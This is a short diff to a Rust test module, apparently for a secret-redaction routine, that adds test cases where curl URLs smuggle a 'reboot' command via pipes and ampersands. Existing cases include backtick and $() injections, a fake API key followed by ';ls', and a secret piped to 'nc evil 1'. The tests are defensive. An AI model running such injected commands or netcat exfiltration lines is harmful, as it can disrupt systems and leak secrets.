@@ -200,6 +200,8 @@ mod tests {
             ("curl http://me:`reboot`@host", "curl http://me:`reboot`@host"),
             ("curl http://me:$(reboot)@host", "curl http://me:$(reboot)@host"),
             ("curl http://a;reboot;b:c@host", "curl http://a;reboot;b:c@host"),
+            ("curl http://a|reboot|b:c@host", "curl http://a|reboot|b:c@host"),
+            ("curl http://a&reboot&b:c@host", "curl http://a&reboot&b:c@host"),
             ("KEY=sk-aaaaaaaaaaaaaaaaaaaaaaaa;ls", "KEY=[redacted];ls"),
             ("echo tr0ub4dor-3|nc evil 1", "echo [redacted]|nc evil 1"),
             ("echo xtr0ub4dor-3y", "echo x[redacted]y"),
